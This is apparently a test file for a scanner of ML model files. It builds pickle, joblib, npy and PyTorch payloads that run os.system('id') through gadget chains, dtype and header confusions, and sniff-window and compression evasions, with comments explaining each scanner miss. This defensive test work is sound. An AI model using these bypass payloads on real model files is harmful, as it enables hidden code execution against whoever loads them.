/**
 * Red-team bypasses: files a real loader (pickle.load, torch.load(weights_only=False), joblib.load,
 * numpy.load(allow_pickle=True)) turns into code execution or attacker-chosen I/O. Every one must come out
 * `malicious`. Streams are assembled from raw opcodes and never executed anywhere.
 *
 * `it.fails` marks a known miss that needs a code change (root cause in the comment above it); flip it to `it`
 * once fixed.
 */
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { scanBytes } from '../../src/scan/engine.js';
import type { FileResult } from '../../src/scan/types.js';
import { PickleAsm, concat } from '../helpers/pickle-asm.js';
import { buildZip } from '../helpers/zip-writer.js';

const ascii = (s: string): Uint8Array => Uint8Array.from(Buffer.from(s, 'latin1'));
const why = (r: FileResult): string =>
  JSON.stringify({ skipped: r.skipped, findings: r.findings.map((f) => `${f.ruleId} ${f.message}`) });

async function expectMalicious(data: Uint8Array, name = 'model.pkl'): Promise<FileResult> {
  const r = await scanBytes(data, name);
  expect(r.verdict, why(r)).toBe('malicious');
  return r;
}

/** PROTO 2, os.system("id"), STOP: the payload nested or hidden in the tests below. */
const PAYLOAD = new PickleAsm().proto(2).global('os', 'system').str('id').tuple1().reduce().stop().bytes();

/** module.name(*args) with string arguments, via STACK_GLOBAL at protocol 4. */
function call(module: string, name: string, ...args: string[]): Uint8Array {
  const a = new PickleAsm().proto(4).str(module).str(name).stackGlobal().mark();
  for (const x of args) a.str(x);
  return a.tuple().reduce().stop().bytes();
}

describe('gadgets closed by deny entries', () => {
  it('resolver torch._utils._import_dotted_name fed to the allowlisted trampoline _rebuild_from_type_v2', async () => {
    // _rebuild_from_type_v2(func, new_type, args, state) calls func(*args): os.system("id") with no REDUCE on it.
    const p = new PickleAsm()
      .proto(4)
      .str('torch._tensor')
      .str('_rebuild_from_type_v2')
      .stackGlobal()
      .mark()
      .str('torch._utils')
      .str('_import_dotted_name')
      .stackGlobal()
      .str('os.system')
      .tuple1()
      .reduce()
      .str('builtins')
      .str('int')
      .stackGlobal()
      .str('id')
      .tuple1()
      .emptyDict()
      .tuple()
      .reduce()
      .stop()
      .bytes();
    await expectMalicious(p);
  });

  it('resolver scipy._lib._uarray._backend.unpickle_function("os", "system")', async () => {
    const p = new PickleAsm()
      .proto(4)
      .str('torch._tensor')
      .str('_rebuild_from_type_v2')
      .stackGlobal()
      .mark()
      .str('scipy._lib._uarray._backend')
      .str('unpickle_function')
      .stackGlobal()
      .str('os')
      .str('system')
      .none()
      .raw(0x87) // TUPLE3
      .reduce()
      .str('builtins')
      .str('int')
      .stackGlobal()
      .str('id')
      .tuple1()
      .emptyDict()
      .tuple()
      .reduce()
      .stop()
      .bytes();
    await expectMalicious(p);
  });

  it('scipy.optimize._nonlin._nonlin_wrapper formats its name into source it execs', async () => {
    const p = new PickleAsm()
      .proto(4)
      .str('scipy.optimize._nonlin')
      .str('_nonlin_wrapper')
      .stackGlobal()
      .str('f(*a, **k): pass\nimport os; os.system("id")\ndef g')
      .str('scipy.optimize._nonlin')
      .str('BroydenFirst')
      .stackGlobal()
      .tuple2()
      .reduce()
      .stop()
      .bytes();
    await expectMalicious(p);
  });

  it('the torch package reached as an attribute of the allowlisted torch._utils', async () => {
    await expectMalicious(call('torch._utils', 'torch.load', 'x.pt'));
    await expectMalicious(call('torch._utils', 'torch.hub.load', 'evil/repo', 'm'));
  });

  it('stdlib aliases through six, future and vendored six', async () => {
    await expectMalicious(call('six.moves.builtins', 'eval', '1'));
    await expectMalicious(call('six', 'moves.builtins.eval', '1'));
    await expectMalicious(call('sklearn.externals.six.moves.builtins', 'eval', '1'));
    await expectMalicious(call('future.moves.subprocess', 'call', 'id'));
    await expectMalicious(call('past.builtins', 'execfile', 'x.py'));
  });

  it('CamelCase classes that the class-prefix allowlist let through (were clean)', async () => {
    await expectMalicious(call('xgboost', 'RabitTracker', '0.0.0.0'));
    await expectMalicious(call('ultralytics.nn.autobackend', 'AutoBackend', 'https://example.invalid/x.pt'));
    await expectMalicious(call('transformers', 'TextDataset', 'tok', '/tmp/cache'));
    await expectMalicious(call('transformers', 'HfAgent', 'https://example.invalid'));
    await expectMalicious(call('sklearn.externals.joblib', 'Parallel'));
  });

  it('nested loaders and file I/O under unlisted numpy, torch, sklearn and scipy paths', async () => {
    for (const [m, n] of [
      ['numpy.core.multiarray', 'fromfile'],
      ['numpy._core.multiarray', 'fromfile'],
      ['numpy.core.records', 'fromfile'],
      ['numpy.rec', 'fromfile'],
      ['numpy.core.memmap', 'memmap'],
      ['numpy.lib._format_impl', 'open_memmap'],
      ['numpy', 'recfromcsv'],
      ['sklearn.externals.joblib', 'load'],
      ['sklearn.externals.joblib.numpy_pickle', 'load'],
      ['torch.utils.model_zoo', 'load_url'],
      ['torch', 'classes.load_library'],
      ['torch.backends.xeon.run_cpu', 'main'],
      ['scipy.sparse._matrix_io', 'load_npz'],
      ['transformers.modeling_utils', 'load_state_dict'],
      ['pytorch_lightning', 'LightningModule.load_from_checkpoint'],
    ])
      await expectMalicious(call(m, n, '/tmp/x'));
  });

  it('test runners (pytest with chosen arguments) and module importers', async () => {
    for (const [m, n] of [
      ['numpy', 'test'],
      ['scipy', 'test'],
      ['pandas', 'test'],
      ['numpy', 'add_newdoc'],
      ['numpy.core.function_base', 'add_newdoc'],
      ['pandas.plotting._core', '_load_backend'],
      ['pandas', 'set_option'],
      ['sklearn.utils.discovery', 'all_estimators'],
    ])
      await expectMalicious(call(m, n, 'fast'));
  });

  it('expression evaluators and object decoders outside the standard library', async () => {
    for (const [m, n] of [
      ['pandas', 'DataFrame.query'],
      ['sympy', 'S'],
      ['jsonpickle', 'decode'],
      ['mako.template', 'Template'],
      ['hydra.utils', 'instantiate'],
      ['keras.saving', 'deserialize_keras_object'],
      ['keras.models', 'model_from_yaml'],
      ['tensorflow', 'load_op_library'],
      ['datasets', 'load_dataset'],
    ])
      await expectMalicious(call(m, n, '__import__("os").system("id")'));
  });

  it('Python 3.12+ standard-library modules missing from the 3.11 module list', async () => {
    await expectMalicious(call('compression.gzip', 'open', '/tmp/x', 'wb'));
    await expectMalicious(call('compression.zstd', 'open', '/tmp/x', 'wb'));
    await expectMalicious(call('annotationlib', 'get_annotations', 'x'));
  });

  it('python 2 tkinter module names that protocol 0-2 pickles map through _compat_pickle', async () => {
    const p = new PickleAsm().proto(2).global('Dialog', 'Dialog').emptyTuple().reduce().stop().bytes();
    await expectMalicious(p);
  });
});

// ---------------------------------------------------------------------------------------------------------------
// Known misses: need code changes (most important first).
// ---------------------------------------------------------------------------------------------------------------

describe('known misses (need code changes)', () => {
  /** BINUNICODE of `n` bytes, then POP, then os.system("id"): no PROTO, so the first opcode fills the sniff head. */
  function longFirstOpcode(n: number): Uint8Array {
    const len = Buffer.alloc(4);
    len.writeUInt32LE(n);
    const rest = new PickleAsm().pop().global('os', 'system').str('id').tuple1().reduce().stop().bytes();
    return concat(Uint8Array.from([0x58]), len, new Uint8Array(n).fill(0x41), rest);
  }

  // Root cause: engine.ts sniffs the first 4 KiB (HEAD_BYTES) and scanner.ts probePickle() runs the VM on that head
  // only. When the first opcode's argument (BINUNICODE/BINBYTES/STRING/LONG4/protocol-0 text line) runs past the
  // head and there is no PROTO, the probe sees zero complete opcodes, decides "not a pickle", and the file is
  // SKIPPED with verdict clean (exit 0). pickle.load, joblib.load, numpy.load(allow_pickle=True) and torch.load
  // (legacy path, CVE-2025-10155 shape) all run it. The same happens for a torch zip whose data.pkl starts this way.
  // Fix: treat an opcode that is valid but incomplete at the end of the head as a pickle candidate (or probe past
  // the head), and never let a file that starts with a valid opcode be skipped as clean.
  it('a pickle whose first opcode is longer than the sniff head (no PROTO)', async () => {
    await expectMalicious(longFirstOpcode(200_000));
  });

  it('the same stream as data.pkl of a PyTorch zip checkpoint', async () => {
    const zip = buildZip([
      { name: 'archive/data.pkl', data: longFirstOpcode(200_000), method: 0 },
      { name: 'archive/version', data: '3\n', method: 0 },
      { name: 'archive/byteorder', data: 'little', method: 0 },
    ]);
    await expectMalicious(zip, 'model.pt');
  });

  it('a protocol-0 pickle that starts with a STRING line longer than the sniff head', async () => {
    await expectMalicious(ascii(`S'${'A'.repeat(200_000)}'\n0cos\nsystem\n(S'id'\ntR.`));
  });

  // Root cause: same sniffing path. Without PROTO and without a global in the first 4 KiB, probePickle() makes only
  // a weak claim (20); a ZIP end record at the tail makes zipScanner claim 45, and engine.ts dispatch() runs weaker
  // claims only at >= STRONG_CLAIM, so only the ZIP interpretation is analysed (BW-ARC-005 prefix-data,
  // suspicious). pickle.load and joblib.load read the pickle at offset 0, and torch.load does too (the file does
  // not start with "PK\x03\x04", so it takes the legacy path). Fix: analyse the prefix data before a ZIP as content,
  // or run the pickle VM whenever byte 0 starts a stream that parses to the end of the head.
  it('a pickle (no PROTO, first global after 4 KiB) with a ZIP archive appended', async () => {
    const a = new PickleAsm();
    for (let i = 0; i < 3000; i++) a.none().pop();
    a.global('os', 'system').str('id').tuple1().reduce().stop();
    const zip = buildZip([{ name: 'readme.txt', data: 'hello' }]);
    await expectMalicious(concat(a.bytes(), zip), 'model.bin');
  });

  /** A version 1.0 .npy file with the given header dictionary text and data. */
  function npy(header: string, data: Uint8Array): Uint8Array {
    let h = header;
    while ((10 + h.length + 1) % 64) h += ' ';
    h += '\n';
    const len = Buffer.alloc(2);
    len.writeUInt16LE(h.length);
    return concat(Uint8Array.from([0x93, ...Buffer.from('NUMPY'), 1, 0]), len, ascii(h), data);
  }

  it('control: .npy with descr |O is analysed', async () => {
    await expectMalicious(npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", PAYLOAD), 'x.npy');
  });

  // Root cause: numpy.ts parseNpyHeader() decides hasObject with regexes on the raw header text, while numpy reads
  // the header with ast.literal_eval and builds the dtype with numpy.dtype(descr). numpy.dtype('object') is the
  // object dtype, string escapes ('\x4f', '\117', '\N{...}') decode to 'O', and structured descrs may spell a field
  // as 'object'. numpy.load(allow_pickle=True) then pickle.loads the data; Bulwark reports the file clean.
  // Fix: decode the header as a Python literal (escapes, u/b prefixes, implicit concatenation, parentheses, any key
  // order) and treat every dtype string numpy maps to object ('O', 'O8', 'object', …) in any position as object.
  it('.npy with descr spelled "object"', async () => {
    await expectMalicious(
      npy("{'descr': 'object', 'fortran_order': False, 'shape': (1,), }", PAYLOAD),
      'x.npy',
    );
  });

  it('.npy with descr written with a string escape (\\x4f is O)', async () => {
    await expectMalicious(
      npy("{'descr': '\\x4f', 'fortran_order': False, 'shape': (1,), }", PAYLOAD),
      'x.npy',
    );
  });

  it('.npy with a structured descr whose field dtype is "object"', async () => {
    await expectMalicious(
      npy("{'descr': [('a', 'object')], 'fortran_order': False, 'shape': (1,), }", PAYLOAD),
      'x.npy',
    );
  });

  // Root cause: when the header regexes do not match (descr last without a trailing comma, u'' prefix, implicit
  // string concatenation, parenthesised value), numpy.ts reports a malformed header (inconclusive) and never
  // analyses the data section, although numpy.load reads it fine and unpickles it. Fix: as above, plus fail closed:
  // when the header cannot be understood, still analyse the data section as a pickle if it parses as one.
  it('.npy header numpy accepts but the regexes do not (descr last, no trailing comma)', async () => {
    await expectMalicious(npy("{'fortran_order': False, 'shape': (1,), 'descr': '|O'}", PAYLOAD), 'x.npy');
  });

  it('.npy header with a u-prefixed descr string', async () => {
    await expectMalicious(npy("{'descr': u'|O', 'fortran_order': False, 'shape': (1,), }", PAYLOAD), 'x.npy');
  });

  /** numpy.dtype(descr, False, True) followed by BUILD(state), as numpy pickles a dtype. */
  function dtype(a: PickleAsm, descr: string, state: (a: PickleAsm) => void): void {
    a.global('numpy', 'dtype').str(descr).raw(0x89).newtrue().raw(0x87).reduce();
    state(a);
    a.build();
  }
  /** (3, '|', None, None, None, elsize, alignment, flags) */
  const plainState =
    (elsize: number, alignment: number, flags: number) =>
    (a: PickleAsm): void => {
      a.mark().int(3).str('|').none().none().none();
      if (elsize < 0) a.raw(0x4a, 0xff, 0xff, 0xff, 0xff);
      else a.int(elsize);
      if (alignment < 0) a.raw(0x4a, 0xff, 0xff, 0xff, 0xff);
      else a.int(alignment);
      a.int(flags).tuple();
    };

  /** joblib's NumpyArrayWrapper (NEWOBJ + BUILD with its __dict__), as joblib.dump writes it at protocol 2. */
  function wrapper(a: PickleAsm, count: number, dt: (a: PickleAsm) => void, alignment?: 'none' | 16): void {
    a.global('joblib.numpy_pickle', 'NumpyArrayWrapper').emptyTuple().newobj();
    a.emptyDict().mark();
    a.str('subclass').global('numpy', 'ndarray');
    a.str('shape').int(count).tuple1();
    a.str('order').str('C');
    a.str('dtype');
    dt(a);
    a.str('allow_mmap').raw(0x89);
    if (alignment === 'none') a.str('numpy_array_alignment_bytes').none();
    else if (alignment === 16) a.str('numpy_array_alignment_bytes').int(16);
    a.setitems().build();
  }

  const STEP = new PickleAsm().global('os', 'system').str('id').tuple1().reduce().pop().bytes();

  it('control: joblib object array pickled inline after the wrapper is analysed', async () => {
    const a = new PickleAsm().proto(2);
    wrapper(a, 1, (x) => dtype(x, 'O8', plainState(-1, -1, 63)), 16);
    await expectMalicious(concat(a.bytes(), PAYLOAD, new PickleAsm().stop().bytes()), 'model.joblib');
  });

  // Root cause: analyze.ts afterBuild() expects joblib's alignment padding byte whenever the wrapper state has the
  // key numpy_array_alignment_bytes, but joblib reads it only when the value is not None (joblib itself writes None
  // for file objects without tell()). Bulwark consumes one byte plus "padding" more than joblib, skipping the
  // opcodes that follow the array data; joblib.load executes them. Fix: align only when the value is a number.
  it('joblib wrapper with numpy_array_alignment_bytes=None hides the opcodes after the array', async () => {
    const a = new PickleAsm().proto(2);
    wrapper(a, 4, (x) => dtype(x, 'u1', plainState(-1, -1, 0)), 'none');
    // 4 bytes of array data; the first is what Bulwark takes for a padding length covering STEP.
    const data = Uint8Array.from([STEP.length - 1, 0, 0, 0]);
    await expectMalicious(concat(a.bytes(), data, STEP, new PickleAsm().stop().bytes()), 'model.joblib');
  });

  // Root cause: joblibArrayBytes() recognises object arrays only by a descr starting with 'O'. joblib decides with
  // dtype.hasobject, which is also true for numpy.dtype('object') and for structured dtypes with an object field
  // ('V8' + BUILD state listing the fields). joblib then pickle.loads the inline data; Bulwark skips it as
  // count * itemsize raw bytes. Fix: treat 'object'/'O…' names and any dtype whose BUILD state has fields (or the
  // NPY_ITEM_HASOBJECT flag, bit 0 of state[7]) as object arrays, i.e. an inline pickle.
  it('joblib array with numpy.dtype("object") pickles its payload inline', async () => {
    const inner = new PickleAsm()
      .proto(2)
      .global('os', 'system')
      .str('id    ')
      .tuple1()
      .reduce()
      .stop()
      .bytes();
    expect(inner.length % 8).toBe(0);
    const a = new PickleAsm().proto(2);
    wrapper(a, inner.length / 8, (x) => dtype(x, 'object', plainState(8, 8, 63)));
    await expectMalicious(concat(a.bytes(), inner, new PickleAsm().stop().bytes()), 'model.joblib');
  });

  // Same root cause: the itemsize comes from the first letter and its digits only, so word names numpy accepts are
  // misread: numpy.dtype('int8') is 1 byte, Bulwark's table says 'i' = 4. Bulwark skips 4 * count bytes, joblib
  // reads count bytes and executes the opcodes in the other 3 * count. Fix: size dtypes the way numpy names them
  // ('int8', 'float16', 'uint64', …) or treat an unrecognised spelling as unknown (inconclusive), never as a size.
  it('joblib array with dtype "int8" (word name) hides the opcodes after its data', async () => {
    let pay = STEP;
    while (pay.length % 3) pay = concat(pay, new PickleAsm().none().pop().bytes());
    const k = pay.length / 3;
    const a = new PickleAsm().proto(2);
    wrapper(a, k, (x) => dtype(x, 'int8', plainState(-1, -1, 0)));
    await expectMalicious(
      concat(a.bytes(), new Uint8Array(k), pay, new PickleAsm().stop().bytes()),
      'model.joblib',
    );
  });

  it('joblib array with a structured dtype whose field is an object', async () => {
    const inner = new PickleAsm()
      .proto(2)
      .global('os', 'system')
      .str('id    ')
      .tuple1()
      .reduce()
      .stop()
      .bytes();
    const a = new PickleAsm().proto(2);
    wrapper(a, inner.length / 8, (x) =>
      dtype(x, 'V8', (s) => {
        // (3, '|', None, ('a',), {'a': (dtype('O'), 0)}, 8, 1, 27)
        s.mark().int(3).str('|').none();
        s.str('a').tuple1();
        s.emptyDict().str('a');
        dtype(s, 'O8', plainState(-1, -1, 63));
        s.int(0).tuple2().setitem();
        s.int(8).int(1).int(27).tuple();
      }),
    );
    await expectMalicious(concat(a.bytes(), inner, new PickleAsm().stop().bytes()), 'model.joblib');
  });

  /** A minimal ustar archive. */
  function tar(members: [string, Uint8Array][]): Uint8Array {
    const parts: Uint8Array[] = [];
    for (const [name, data] of members) {
      const h = Buffer.alloc(512);
      h.write(name, 0, 'latin1');
      h.write('0000644\0', 100, 'latin1');
      h.write('0000000\0', 108, 'latin1');
      h.write('0000000\0', 116, 'latin1');
      h.write(`${data.length.toString(8).padStart(11, '0')}\0`, 124, 'latin1');
      h.write('00000000000\0', 136, 'latin1');
      h.write('        ', 148, 'latin1');
      h.write('0', 156, 'latin1');
      h.write('ustar\0', 257, 'latin1');
      h.write('00', 263, 'latin1');
      let sum = 0;
      for (const c of h) sum += c;
      h.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
      parts.push(h, data, new Uint8Array((512 - (data.length % 512)) % 512));
    }
    parts.push(new Uint8Array(1024));
    return concat(...parts);
  }

  // Root cause: torch.load of a tar (PyTorch 0.1.1 format, still read by _legacy_load's legacy_load) reads the
  // 'storages' member as: pickle(count), then per storage pickle((key, location, storage_type)) followed by raw
  // data (int64 element count + elements), then pickle(storage_views). The VM stops at the raw bytes (they do not
  // parse and look like trailing data), so the storage_views pickle - executed by torch.load - is never analysed;
  // the file is only "suspicious" (trailing data). Same for 'tensors' (pickles interleaved with raw shape/stride
  // data). Fix: recognise the legacy tar layout (sys_info, pickle, storages, tensors) and skip the raw records the
  // way torch does, or resynchronise on the next pickle after non-pickle bytes instead of stopping.
  it.fails('legacy PyTorch tar: pickle after the raw storage data in the "storages" member', async () => {
    const p = (f: (a: PickleAsm) => void): Uint8Array => {
      const a = new PickleAsm().proto(2);
      f(a);
      return a.stop().bytes();
    };
    const raw = concat(Uint8Array.from([1, 0, 0, 0, 0, 0, 0, 0]), Uint8Array.from([1, 0, 0, 0]));
    const storages = concat(
      p((a) => a.int(1)),
      p((a) => a.str('0').str('cpu').global('torch', 'FloatStorage').raw(0x87)),
      raw,
      PAYLOAD,
    );
    const t = tar([
      ['sys_info', p((a) => a.emptyDict())],
      ['storages', storages],
      ['tensors', p((a) => a.int(0))],
      ['pickle', p((a) => a.none())],
    ]);
    await expectMalicious(t, 'model.pt');
  });

  // Root cause: the compression-ratio bomb guard (compress.ts, maxCompressionRatio above ratioFloorBytes) stops
  // decompression and reports BW-ARC-003 (inconclusive) before the pickle after the padding is analysed. Deflate and
  // gzip reach ~1030:1 on zeros, so a 290 KB .pkl.gz (or a deflated data.pkl in a torch zip) holding a 300 MB
  // BINBYTES8 of zeros followed by os.system is only inconclusive; pickle.load/joblib.load/torch.load simply read it.
  // The test lowers ratioFloorBytes to keep it small; the default floor (256 MiB) behaves the same at 300 MB. Fix:
  // past the ratio limit, keep streaming the decompressed bytes through the pickle VM (it skips large payloads
  // without retaining them) up to maxDecompressedBytes, or report malicious findings found so far plus the bomb.
  it.fails(
    'payload after highly compressible padding in a gzip pickle (ratio guard stops first)',
    async () => {
      const n = 4 * 1024 * 1024;
      const len = Buffer.alloc(8);
      len.writeUInt32LE(n);
      const tail = new PickleAsm().pop().global('os', 'system').str('id').tuple1().reduce().stop().bytes();
      const raw = concat(Uint8Array.from([0x80, 4, 0x8e]), len, new Uint8Array(n), tail);
      const gz = Uint8Array.from(gzipSync(raw, { level: 9 }));
      const r = await scanBytes(gz, 'model.pkl.gz', { limits: { ratioFloorBytes: 1024 * 1024 } });
      expect(r.verdict, why(r)).toBe('malicious');
    },
  );

  // Root cause: policy.ts decide() walks dotted names only from the second segment on (i >= 1) plus the bare head.
  // The whole name is never looked up as an absolute path, so a module attribute that is itself a package gets
  // through when the head is not denied by itself: torch.nn.modules.module does `import torch`, so
  // ("torch.nn.modules.module", "torch.load") is torch.load, and sklearn.base does `import numpy as np`, so
  // ("sklearn.base", "np.testing._private.utils.runstring") is numpy's exec gadget. Both are only "unknown".
  // Fix: also check the full name (i = 0) against the deny index, and treat a dotted name through any lower-case
  // attribute of a non-allowlisted module as denied (real pickles only use dotted names for nested classes and
  // methods); or resolve well-known import aliases (np, pd, torch, tf, sp…).
  it('attribute path into the torch package from a module that imports torch', async () => {
    await expectMalicious(call('torch.nn.modules.module', 'torch.load', 'x.pt'));
  });

  it('attribute path through an import alias (np) to numpy.testing runstring', async () => {
    await expectMalicious(call('sklearn.base', 'np.testing._private.utils.runstring', 'import os'));
  });

  // Root cause: the allowlisted torch._tensor._rebuild_from_type_v2(func, new_type, args, state) is a call
  // trampoline (it runs func(*args)). analyze.ts reports BW-PKL-010 only when REDUCE/OBJ/NEWOBJ call a computed
  // value, not when a computed value is handed to such a trampoline, so any resolver that is merely unknown
  // (suspicious) becomes a full call primitive: somepkg.resolve("os:system") -> os.system("id"). Fix: treat a
  // non-global (call result, unknown, persid, ext) in the callable position of known trampolines
  // (_rebuild_from_type_v2, _rebuild_from_type, copyreg.__newobj__/_reconstructor's class, numpy.core.multiarray
  // ._reconstruct's subtype, …) as a dynamic call.
  it('a computed callable passed to the allowlisted trampoline _rebuild_from_type_v2', async () => {
    const p = new PickleAsm()
      .proto(4)
      .str('torch._tensor')
      .str('_rebuild_from_type_v2')
      .stackGlobal()
      .mark()
      .str('somepkg.util')
      .str('resolve')
      .stackGlobal()
      .str('os:system')
      .tuple1()
      .reduce()
      .str('builtins')
      .str('int')
      .stackGlobal()
      .str('id')
      .tuple1()
      .emptyDict()
      .tuple()
      .reduce()
      .stop()
      .bytes();
    await expectMalicious(p);
  });
});
